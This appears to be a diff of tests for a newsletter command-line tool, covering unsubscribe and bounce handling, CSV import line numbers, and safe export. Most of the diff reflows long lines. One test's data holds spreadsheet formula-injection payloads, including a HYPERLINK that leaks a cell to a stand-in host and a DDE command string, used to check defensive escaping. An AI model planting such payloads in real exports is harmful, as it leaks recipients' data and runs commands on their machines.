@@ -58,7 +58,9 @@ describe('newsletter subscribers import and add never bring back someone who lef
     const { code, output } = await ws.run('subscribers', 'import', file, '--confirmed');
     expect(code).toBe(0);
     expect(output).toContain(`${file} line 2: skipped: unsubscribed on `);
-    expect(output).toContain('Imported 1 new, updated 0, unchanged 0, skipped 0 invalid, skipped 1 who left (1 unsubscribed: an import never brings back someone who left) (confirmed).');
+    expect(output).toContain(
+      'Imported 1 new, updated 0, unchanged 0, skipped 0 invalid, skipped 1 who left (1 unsubscribed: an import never brings back someone who left) (confirmed).',
+    );
     expect(output).not.toContain('gone@example.com');
     expect(await statusOf('gone@example.com')).toBe('unsubscribed');
   });
@@ -67,7 +69,9 @@ describe('newsletter subscribers import and add never bring back someone who lef
     await leftTheList('gone@example.com');
     const { code, output } = await ws.run('subscribers', 'add', 'gone@example.com');
     expect(code).toBe(1);
-    expect(output.trim()).toMatch(/^newsletter: gone@example\.com was not added to ai-talent: unsubscribed on \d{4}-\d\d-\d\d; only they can subscribe again, through the sign-up page$/);
+    expect(output.trim()).toMatch(
+      /^newsletter: gone@example\.com was not added to ai-talent: unsubscribed on \d{4}-\d\d-\d\d; only they can subscribe again, through the sign-up page$/,
+    );
     expect(await statusOf('gone@example.com')).toBe('unsubscribed');
   });
 
@@ -77,7 +81,9 @@ describe('newsletter subscribers import and add never bring back someone who lef
 
     const refused = await ws.run('subscribers', 'add', 'bounced@example.com');
     expect(refused.code).toBe(1);
-    expect(refused.output).toContain(`was not added to ai-talent: suppressed (hard bounce) on 2026-03-01; if you know the address works again, run "newsletter --config ${ws.config} --data-dir ${ws.dataDir} subscribers unsuppress EMAIL" first`);
+    expect(refused.output).toContain(
+      `was not added to ai-talent: suppressed (hard bounce) on 2026-03-01; if you know the address works again, run "newsletter --config ${ws.config} --data-dir ${ws.dataDir} subscribers unsuppress EMAIL" first`,
+    );
 
     const lifted = await ws.run('subscribers', 'unsuppress', 'bounced@example.com');
     expect(lifted.code).toBe(0);
@@ -214,7 +220,12 @@ describe('newsletter subscribers list and export', () => {
   });
 
   it('exports names that a spreadsheet would run as formulas with a quote in front, and imports them back as they were', async () => {
-    const names = { 'hyperlink@example.com': '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', 'dde@example.com': '+cmd|" /C calc"!A0', 'minus@example.com': '-2+3', 'at@example.com': '@SUM(A1:A9)' };
+    const names = {
+      'hyperlink@example.com': '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      'dde@example.com': '+cmd|" /C calc"!A0',
+      'minus@example.com': '-2+3',
+      'at@example.com': '@SUM(A1:A9)',
+    };
     for (const [email, name] of Object.entries(names)) expect((await ws.run('subscribers', 'add', email, `--name=${name}`)).code).toBe(0);
     const file = path.join(ws.work, 'formulas.csv');
     expect((await ws.run('subscribers', 'export', file)).code).toBe(0);
@@ -252,7 +263,19 @@ describe('newsletter subscribers import and list', () => {
   async function importPeople(): Promise<{ csv: string; code: number; output: string }> {
     const csv = path.join(fresh.work, 'people.csv');
     // A blank line and a quoted line break must not shift the line numbers reported.
-    await writeFile(csv, ['email,name', 'ann@example.com,Ann Lee', 'not-an-address,Nobody', '', 'bob@example.org,', 'carol@example.net,"Carol', 'from Accounts"', 'x@,Broken'].join('\n'));
+    await writeFile(
+      csv,
+      [
+        'email,name',
+        'ann@example.com,Ann Lee',
+        'not-an-address,Nobody',
+        '',
+        'bob@example.org,',
+        'carol@example.net,"Carol',
+        'from Accounts"',
+        'x@,Broken',
+      ].join('\n'),
+    );
     return { csv, ...(await fresh.run('subscribers', 'import', csv)) };
   }
 
